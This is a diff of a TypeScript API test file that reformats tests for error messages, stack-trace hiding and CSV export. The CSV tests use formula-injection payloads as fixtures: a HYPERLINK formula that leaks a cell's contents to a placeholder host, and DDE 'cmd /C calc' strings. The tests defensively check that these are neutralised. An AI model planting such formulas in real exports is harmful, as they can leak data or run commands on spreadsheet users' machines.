@@ -14,14 +14,19 @@ type ErrorBody = { error: { code: string; message: string } };
 
 describe('numeric query parameters', () => {
   let f: Fixture;
-  before(async () => { f = await miniApp(); });
+  before(async () => {
+    f = await miniApp();
+  });
   after(() => f.close());
 
   it('limit=1e12 names the parameter and its range, not zod\'s "expected number"', async () => {
     const r = await f.json<ErrorBody>('/api/events?limit=1e12');
     assert.equal(r.status, 400);
     assert.equal(r.body.error.code, 'invalid');
-    assert.match(r.body.error.message, new RegExp(`limit must be an integer between 1 and ${LIMITS.queryInteger} \\(got "1e12"\\)`));
+    assert.match(
+      r.body.error.message,
+      new RegExp(`limit must be an integer between 1 and ${LIMITS.queryInteger} \\(got "1e12"\\)`),
+    );
     assert.doesNotMatch(r.body.error.message, /expected|received/);
   });
 
@@ -59,7 +64,10 @@ describe('unexpected failures', () => {
       assert.equal(r.body.error.code, 'internal');
       assert.doesNotMatch(r.body.error.message, /\n/);
       assert.doesNotMatch(r.body.error.message, /\bat \S+ \(|sqlite|database|node_modules|\.ts|\.js/i);
-      assert.ok(logged.some((l) => /\n\s+at /.test(l)), 'the operator\'s log keeps the trace');
+      assert.ok(
+        logged.some((l) => /\n\s+at /.test(l)),
+        "the operator's log keeps the trace",
+      );
     } finally {
       await f.close().catch(() => {});
     }
@@ -72,8 +80,8 @@ describe('CSV export over the API', () => {
     const r = miniRecords();
     const events = r.events as Array<{ summary: string }>;
     events[0]!.summary = '=HYPERLINK("http://example.invalid/?x="&A1,"click")';
-    events[1]!.summary = '@SUM(1+1)*cmd|\' /C calc\'!A0';
-    events[2]!.summary = '-2+3+cmd|\' /C calc\'!A0';
+    events[1]!.summary = "@SUM(1+1)*cmd|' /C calc'!A0";
+    events[2]!.summary = "-2+3+cmd|' /C calc'!A0";
     f = await miniApp({}, r);
   });
   after(() => f.close());
@@ -85,8 +93,8 @@ describe('CSV export over the API', () => {
     const rows = csvObjects(text);
     const byId = Object.fromEntries(rows.map((row) => [row.id, row]));
     assert.equal(byId['border-protocol-2024']!.summary, '\'=HYPERLINK("http://example.invalid/?x="&A1,"click")');
-    assert.equal(byId['troop-move-denied-2024']!.summary, '\'@SUM(1+1)*cmd|\' /C calc\'!A0');
-    assert.equal(byId['leader-visit-2019']!.summary, '\'-2+3+cmd|\' /C calc\'!A0');
+    assert.equal(byId['troop-move-denied-2024']!.summary, "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert.equal(byId['leader-visit-2019']!.summary, "'-2+3+cmd|' /C calc'!A0");
     assert.match(text, /,"'=HYPERLINK\(/, 'the neutralised cell is quoted');
     for (const line of text.split('\r\n').slice(1)) assert.doesNotMatch(line, /(^|,)[=+@-](?!\d+(\.\d+)?(,|$))/, line);
     const negative = rows.find((row) => Number(row.intensity) < 0);
